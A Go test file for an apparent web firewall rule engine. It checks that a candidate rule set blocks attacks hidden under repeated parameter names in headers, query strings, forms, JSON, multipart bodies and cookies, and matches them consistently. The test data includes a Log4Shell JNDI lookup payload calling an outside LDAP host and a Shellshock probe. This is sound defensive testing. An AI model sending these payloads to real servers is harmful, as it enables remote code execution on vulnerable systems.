package parity

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"gatehouse/rules"
	"gatehouse/rules/engine/compare"
	"gatehouse/rules/rulestest"
)

// repeated are attacks in one of several places of the same name.
func repeated(attack string) []*Exchange {
	header := func(name, value string) rules.Header { return rules.Header{Name: name, Value: value} }
	base := []rules.Header{header("Host", "shop.example.com"), header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), header("Accept", "*/*")}
	post := func(name, contentType, body string) *Exchange {
		headers := append(base[:len(base):len(base)], header("Content-Type", contentType), header("Content-Length", fmt.Sprint(len(body))))
		return &Exchange{Name: name, Request: NewRequest("POST", "/notes", headers...), Body: []byte(body)}
	}
	escaped := strings.NewReplacer("{", "%7B", "}", "%7D", " ", "+", ";", "%3B", "$", "%24", "&", "%26").Replace(attack)
	quoted := jsonString(attack)
	all := []*Exchange{
		{Name: "second of three headers", Request: NewRequest("GET", "/", append(base[:len(base):len(base)], header("X-A", "one"), header("X-A", attack), header("X-A", "three"))...)},
		{Name: "third of three headers in any case", Request: NewRequest("GET", "/", append(base[:len(base):len(base)], header("X-A", "one"), header("x-a", "two"), header("X-a", attack))...)},
		{Name: "query", Request: NewRequest("GET", "/?a=one&a="+escaped+"&a=three&b=four", base...)},
		post("form", "application/x-www-form-urlencoded", "a=one&b=2&a="+escaped+"&a=three"),
		post("form in any case", "application/x-www-form-urlencoded", "a=one&A="+escaped+"&a=three"),
		post("JSON names", "application/json", `{"a":"one","a":`+quoted+`,"a":"three","b":"four"}`),
		post("JSON list", "application/json", `{"a":["one",`+quoted+`,"three"],"b":{"a":["x"]}}`),
		post("multipart", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\none\r\n--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"+attack+"\r\n--xyz--\r\n"),
	}
	if !strings.Contains(attack, ";") { // it would end the cookie
		cookies := NewRequest("GET", "/", append(base[:len(base):len(base)], header("Cookie", "a=one; a="+attack+"; a=three; b=four"))...)
		all = append(all, &Exchange{Name: "cookies", Request: cookies})
	}
	return all
}

// TestRepeatedNames sends attacks under repeated names, a thousand times each: the same rules have to match the same values
// every time, and the request has to be refused.
func TestRepeatedNames(t *testing.T) {
	const times = 1000
	for paranoia := 1; paranoia <= 4; paranoia += 3 {
		if slower > 1 && paranoia > 1 {
			break
		}
		p := mustPolicy(t, paranoia)
		set := mustLoad(t, Candidate(), p)
		reference := mustLoad(t, Reference(), p)
		for name, attack := range map[string]string{"log4shell": "${jndi:ldap://198.51.100.9/a}", "shellshock": "() { :;}; echo vulnerable"} {
			for _, x := range repeated(attack) {
				t.Run(fmt.Sprintf("paranoia %d/%s/%s", paranoia, name, x.Name), func(t *testing.T) {
					want := x.Run(reference, rulestest.ModeBlock)
					if want.Interruption == nil {
						t.Fatal("the reference does not refuse it")
					}
					start := time.Now()
					n := 0
					for ; n < times/slower && (long() || time.Since(start) < time.Second); n++ {
						got := x.Run(set, rulestest.ModeBlock)
						if diff := cmp.Diff(want.Order, got.Order); diff != "" {
							t.Fatalf("run %d matches other rules (-want +got):\n%s", n+1, diff)
						}
						if diff := compare.Diff(want, got); len(diff.Verdict) > 0 {
							t.Fatalf("run %d: %s", n+1, strings.Join(diff.Verdict, "\n"))
						}
					}
					const few = 20
					if n < few {
						t.Errorf("%d runs in %v show little", n, time.Since(start))
					}
				})
			}
		}
	}
}
